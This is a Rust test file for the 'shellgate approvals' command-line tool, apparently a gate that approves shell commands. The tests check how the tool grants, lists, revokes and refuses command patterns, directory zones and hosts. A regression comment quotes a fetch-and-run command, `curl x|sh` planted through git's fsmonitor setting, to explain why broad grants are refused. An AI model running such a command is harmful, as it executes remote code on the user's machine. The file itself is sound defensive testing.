//! `shellgate approvals`: output, exit codes, and a revocation by one process seen by another.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "test code: a failed step should fail the test loudly"
)]

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use shellgate_rules::VerbPattern;
use shellgate_store::{Reload, TrustStore};

use common::trust_file;

fn shellgate(args: &[&str], trust: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shellgate"))
        .args(args)
        .env_remove("SHELLGATE_TRUST")
        .env_remove("XDG_CONFIG_HOME")
        .env("HOME", "/home/u")
        .arg("--trust")
        .arg(trust)
        .output()
        .unwrap()
}

/// (exit code, stdout, stderr)
fn run(args: &[&str], trust: &Path) -> (i32, String, String) {
    let out = shellgate(args, trust);
    common::outcome(out)
}

/// Each case of `table` in `tests/data/approvals_refused.toml` (arguments, standard error)
/// exits 1 with exactly that error and no output.
fn assert_refused(trust: &Path, table: &str) {
    #[derive(serde::Deserialize)]
    #[serde(deny_unknown_fields)]
    struct Case {
        args: Vec<String>,
        stderr: String,
    }
    let mut tables: BTreeMap<String, Vec<Case>> =
        toml::from_str(include_str!("data/approvals_refused.toml")).unwrap();
    let cases = tables.remove(table).unwrap();
    assert!(!cases.is_empty(), "{table}");
    for case in cases {
        let args: Vec<&str> = case.args.iter().map(String::as_str).collect();
        assert_eq!(
            run(&args, trust),
            (1, String::new(), case.stderr),
            "{args:?}"
        );
    }
}

#[test]
fn grants_show_up_in_list_and_json() {
    let (_dir, path) = trust_file();
    let t = &path;
    assert_eq!(
        run(&["approvals", "trust-verb", "git  push origin main *"], t),
        (
            0,
            "trusted: pattern `git push origin main *` for audience `personal`\n".into(),
            String::new()
        )
    );
    assert_eq!(
        run(&["approvals", "trust-verb", "git push origin main *"], t),
        (
            0,
            "already trusted: pattern `git push origin main *` for audience `personal`\n".into(),
            String::new()
        )
    );
    assert_eq!(
        run(&["approvals", "trust-zone", "~/proj/"], t),
        (
            0,
            "trusted: zone `/home/u/proj` (write) for audience `personal`\n".into(),
            String::new()
        )
    );
    assert_eq!(
        run(
            &[
                "approvals",
                "trust-zone",
                "/tmp/x",
                "--read-only",
                "--audience",
                "ci"
            ],
            t
        ),
        (
            0,
            "trusted: zone `/tmp/x` (read) for audience `ci`\n".into(),
            String::new()
        )
    );
    let (code, stdout, stderr) = run(&["approvals", "list"], t);
    assert_eq!((code, stderr.as_str()), (0, ""));
    assert_eq!(
        stdout,
        format!(
            "trust file: {}\nci:\n  zone     read   /tmp/x\npersonal:\n  zone     write  /home/u/proj\n  pattern         git push origin main *\n",
            path.display()
        )
    );
    let (code, stdout, _) = run(&["approvals", "list", "--json"], t);
    assert_eq!(code, 0);
    let expected = serde_json::json!({
        "trust_file": path.display().to_string(),
        "audiences": {
            "ci": {"zones": [{"path": "/tmp/x", "access": "read"}], "patterns": [], "hosts": []},
            "personal": {"zones": [{"path": "/home/u/proj", "access": "write"}], "patterns": ["git push origin main *"], "hosts": []},
        }
    });
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&stdout).unwrap(),
        expected
    );
    assert!(stdout.starts_with("{\"trust_file\":"), "{stdout}");
    let (code, stdout, _) = run(&["approvals", "list", "--json", "--audience", "nobody"], t);
    assert_eq!(code, 0);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&stdout).unwrap(),
        serde_json::json!({"trust_file": path.display().to_string(), "audiences": {"nobody": {"zones": [], "patterns": [], "hosts": []}}})
    );
    assert_eq!(
        run(
            &[
                "approvals",
                "revoke",
                "--zone",
                "/tmp/x/",
                "--audience",
                "ci"
            ],
            t
        ),
        (
            0,
            "revoked: zone `/tmp/x` for audience `ci`\n".into(),
            String::new()
        )
    );
    assert_eq!(
        run(
            &["approvals", "revoke", "--pattern", "git push origin main *"],
            t
        ),
        (
            0,
            "revoked: pattern `git push origin main *` for audience `personal`\n".into(),
            String::new()
        )
    );
}

#[test]
fn an_empty_store_lists_no_approvals() {
    let (_dir, path) = trust_file();
    assert_eq!(
        run(&["approvals", "list"], &path),
        (
            0,
            format!("trust file: {}\nno approvals\n", path.display()),
            String::new()
        )
    );
    assert!(!path.exists(), "listing must not create the file");
}

#[test]
fn validation_errors_exit_1_with_help() {
    let (_dir, path) = trust_file();
    assert_refused(&path, "validation");
    assert!(!path.exists(), "failed commands must not create the file");
}

#[test]
fn a_quarantined_store_exits_2_and_names_the_new_path() {
    let (dir, path) = trust_file();
    std::fs::write(&path, "version = 9\n").unwrap();
    let (code, stdout, stderr) = run(&["approvals", "trust-verb", "ls *"], &path);
    assert_eq!((code, stdout.as_str()), (2, ""));
    let moved: Vec<PathBuf> = std::fs::read_dir(dir.root())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.to_string_lossy().contains(".quarantine-"))
        .collect();
    assert_eq!(moved.len(), 1);
    assert_eq!(std::fs::read_to_string(&moved[0]).unwrap(), "version = 9\n");
    assert_eq!(
        stderr,
        format!(
            "warning: trust file `{}` was unusable (unknown version `9`; this shellgate reads version 1); it was moved to `{}` and shellgate started with no saved approvals\n  nothing else was done; run the command again to use the new, empty store\n",
            path.display(),
            moved[0].display()
        )
    );
    assert!(!path.exists(), "nothing else was done");
    assert_eq!(run(&["approvals", "trust-verb", "ls *"], &path).0, 0);
}

#[test]
fn an_unreadable_store_exits_2() {
    let dir = common::Sandbox::new(&[]);
    let blocker = dir.path("config");
    std::fs::write(&blocker, "x").unwrap();
    let path = blocker.join("trust.toml");
    assert_eq!(
        run(&["approvals", "trust-verb", "ls *"], &path),
        (
            2,
            String::new(),
            format!(
                "error: cannot read trust file `{}`\n  caused by: Not a directory (os error 20)\n  help: check that the file and its directory are readable; nothing was changed\n",
                path.display()
            )
        )
    );
    assert_eq!(std::fs::read_to_string(&blocker).unwrap(), "x");
}

/// Root ignores permission bits; `ulimit -f 0` (with `SIGXFSZ` ignored) makes every write fail
/// with `EFBIG` even for root, like a full disk.
#[test]
fn an_unwritable_store_exits_2_and_loses_nothing() {
    let (dir, path) = trust_file();
    assert_eq!(run(&["approvals", "trust-verb", "ls *"], &path).0, 0);
    let before = std::fs::read(&path).unwrap();
    let out = Command::new("sh")
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 0; exec \"$0\" approvals --trust \"$1\" trust-verb 'make *'")
        .arg(env!("CARGO_BIN_EXE_shellgate"))
        .arg(&path)
        .output()
        .unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    let expected = format!(
        "error: cannot write trust file `{}`\n  caused by: File too large (os error 27)",
        path.display()
    );
    assert!(stderr.starts_with(&expected), "{stderr}");
    assert!(stderr.ends_with("  help: check that the directory exists, is a directory and is writable; the trust file was not changed\n"), "{stderr}");
    assert_eq!(std::fs::read(&path).unwrap(), before);
    let mut names: Vec<String> = std::fs::read_dir(dir.root())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["trust.toml", "trust.toml.lock"]);
}

/// The gate (this process) holds an open store; another process revokes through the CLI; the
/// gate's next reload no longer has the grant.
#[test]
fn a_revocation_by_another_process_applies_without_restart() {
    let (_dir, path) = trust_file();
    assert_eq!(run(&["approvals", "trust-verb", "git push *"], &path).0, 0);
    let opened = TrustStore::open_with_home(&path, None).unwrap();
    assert_eq!(opened.quarantined, None);
    let mut gate = opened.store;
    let pattern: VerbPattern = "git push *".parse().unwrap();
    assert_eq!(gate.snapshot("personal").patterns, vec![pattern.clone()]);
    assert_eq!(
        run(&["approvals", "revoke", "--pattern", "git push *"], &path).0,
        0
    );
    assert_eq!(gate.reload_if_changed().unwrap(), Reload::Reloaded);
    assert!(!gate.snapshot("personal").patterns.contains(&pattern));
    assert_eq!(gate.reload_if_changed().unwrap(), Reload::Unchanged);
}

/// End to end through `shellgate eval`: a trusted pattern approves, and after `approvals
/// revoke` in another process the same command is no longer approved.
#[test]
fn an_evaluation_after_revoke_no_longer_approves() {
    let (dir, path) = trust_file();
    let eval = || {
        Command::new(env!("CARGO_BIN_EXE_shellgate"))
            .args(["eval", "--trust"])
            .arg(&path)
            .arg("--cwd")
            .arg(dir.root())
            .args(["--", "git push origin main"])
            .env("HOME", "/home/u")
            .output()
            .unwrap()
            .status
            .code()
    };
    assert_ne!(eval(), Some(0), "nothing trusted yet");
    assert_eq!(
        run(
            &["approvals", "trust-verb", "git push origin main *"],
            &path
        )
        .0,
        0
    );
    assert_eq!(eval(), Some(0), "the trusted pattern approves");
    assert_eq!(
        run(
            &["approvals", "revoke", "--pattern", "git push origin main *"],
            &path
        )
        .0,
        0
    );
    assert_eq!(
        eval(),
        Some(2),
        "after the revocation a person is needed again"
    );
}

#[test]
fn the_location_comes_from_flag_then_env_then_xdg_then_home() {
    let dir = common::Sandbox::new(&[]);
    let xdg = dir.path("xdg");
    let home = dir.path("home");
    let from_env = dir.path("env.toml");
    let flag = dir.path("flag.toml");
    let list = |vars: &[(&str, &Path)], extra: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_shellgate"));
        command.args(["approvals", "list"]).args(extra).env_clear();
        for (key, value) in vars {
            command.env(key, value);
        }
        let out = command.output().unwrap();
        assert_eq!(out.status.code(), Some(0));
        String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .next()
            .unwrap()
            .to_owned()
    };
    let all: [(&str, &Path); 3] = [
        ("SHELLGATE_TRUST", &from_env),
        ("XDG_CONFIG_HOME", &xdg),
        ("HOME", &home),
    ];
    assert_eq!(
        list(&all, &["--trust", flag.to_str().unwrap()]),
        format!("trust file: {}", flag.display())
    );
    assert_eq!(
        list(&all, &[]),
        format!("trust file: {}", from_env.display())
    );
    assert_eq!(
        list(&all[1..], &[]),
        format!("trust file: {}", xdg.join("shellgate/trust.toml").display())
    );
    assert_eq!(
        list(&all[2..], &[]),
        format!(
            "trust file: {}",
            home.join(".config/shellgate/trust.toml").display()
        )
    );
}

/// Regression (issue 13): `approvals trust-verb 'git *'` (after which `git config
/// core.fsmonitor 'curl x|sh'` ran silently), `'bash *'`, `'python3 *'` and `trust-zone ~` were
/// accepted without a word. They are refused with the reason and the narrower grant, exit 1,
/// and the trust file is not touched.
#[test]
fn regression_dangerous_grants_are_refused_with_the_narrower_alternative() {
    let (_dir, path) = trust_file();
    assert_refused(&path, "dangerous");
    assert!(!path.exists(), "nothing was written");
    // The narrower grants are accepted.
    for args in [
        &["approvals", "trust-verb", "git status *"][..],
        &["approvals", "trust-zone", "~/src/shop"][..],
    ] {
        assert_eq!(run(args, &path).0, 0, "{args:?}");
    }
}

/// `--policy` files count: a shell a user policy declares is refused as a grant head too.
#[test]
fn a_user_policy_shell_is_refused_as_a_grant_head() {
    let (dir, path) = trust_file();
    let policy = dir.write(
        "mine.toml",
        "version = 1\n[[shell]]\nverb = [\"myshell\"]\ncode_flags = [\"-c\"]\nwhy = \"runs shell code\"\n",
    );
    assert_eq!(run(&["approvals", "trust-verb", "myshell *"], &path).0, 0);
    let (code, stdout, stderr) = run(
        &[
            "approvals",
            "--policy",
            &policy,
            "revoke",
            "--pattern",
            "myshell *",
        ],
        &path,
    );
    assert_eq!(
        (code, stdout.as_str()),
        (0, "revoked: pattern `myshell *` for audience `personal`\n"),
        "{stderr}"
    );
    assert_eq!(
        run(&["approvals", "trust-verb", "myshell *", "--policy", &policy], &path),
        (
            1,
            String::new(),
            "error: `myshell *` would approve too much: `myshell` is a shell, which runs whatever code it is given\n  help: approve the commands the code runs, one pattern each (such as `cargo test *`); a script file can only be allowed once, when asked\n".to_owned()
        )
    );
    // A broken policy is a validation error, as for `eval`.
    let (code, _, stderr) = run(
        &[
            "approvals",
            "--policy",
            "/nonexistent/p.toml",
            "trust-verb",
            "ls *",
        ],
        &path,
    );
    assert_eq!(code, 1);
    assert_eq!(
        stderr,
        "error: cannot read `/nonexistent/p.toml`: No such file or directory (os error 2)\n  help: check the path and its permissions\n"
    );
}

/// Host grants end to end: `trust-host` refuses URLs and too broad wildcards (exit 1, file
/// untouched), accepts a host, `list` shows it, `eval` then approves a plain read of it (but
/// not a POST), and `revoke --host` takes it back.
#[test]
fn trust_host_is_checked_listed_honoured_and_revoked() {
    let (dir, path) = trust_file();
    let refused: [(&str, &str); 3] = [
        (
            "*.com",
            "error: `*.com` would trust too many hosts: it covers a whole top-level domain\n  help: name the host, such as `api.github.com`, or the subdomains of one registered domain, such as `*.github.com`\n",
        ),
        (
            "https://api.github.com",
            "error: `https://api.github.com` is not a host: it has a scheme\n  help: give the host name alone, such as `api.github.com`, or `*.example.com` for its subdomains\n",
        ),
        (
            "*",
            "error: `*` would trust too many hosts: it trusts every host\n  help: name the host, such as `api.github.com`, or the subdomains of one registered domain, such as `*.github.com`\n",
        ),
    ];
    for (host, stderr) in refused {
        assert_eq!(
            run(&["approvals", "trust-host", host], &path),
            (1, String::new(), stderr.to_owned()),
            "{host}"
        );
    }
    assert!(!path.exists(), "nothing was written");
    let eval = |command: &str| {
        Command::new(env!("CARGO_BIN_EXE_shellgate"))
            .args(["eval", "--trust"])
            .arg(&path)
            .arg("--cwd")
            .arg(dir.root())
            .args(["--", command])
            .env("HOME", "/home/u")
            .output()
            .unwrap()
            .status
            .code()
    };
    let read = "curl -s https://API.GitHub.com/repos/x";
    assert_eq!(eval(read), Some(2), "nothing granted yet");
    assert_eq!(
        run(&["approvals", "trust-host", "API.github.com."], &path),
        (
            0,
            "trusted: host `api.github.com` for audience `personal`\n".into(),
            String::new()
        )
    );
    assert_eq!(
        run(&["approvals", "list"], &path).1,
        format!(
            "trust file: {}\npersonal:\n  host            api.github.com\n",
            path.display()
        )
    );
    assert_eq!(eval(read), Some(0), "a plain read of the granted host");
    assert_eq!(
        eval("curl -s -X POST -d x=1 https://api.github.com/repos"),
        Some(2),
        "a POST never rides a host grant"
    );
    assert_eq!(
        run(&["approvals", "revoke", "--host", "api.github.com"], &path),
        (
            0,
            "revoked: host `api.github.com` for audience `personal`\n".into(),
            String::new()
        )
    );
    assert_eq!(eval(read), Some(2), "revoked");
}
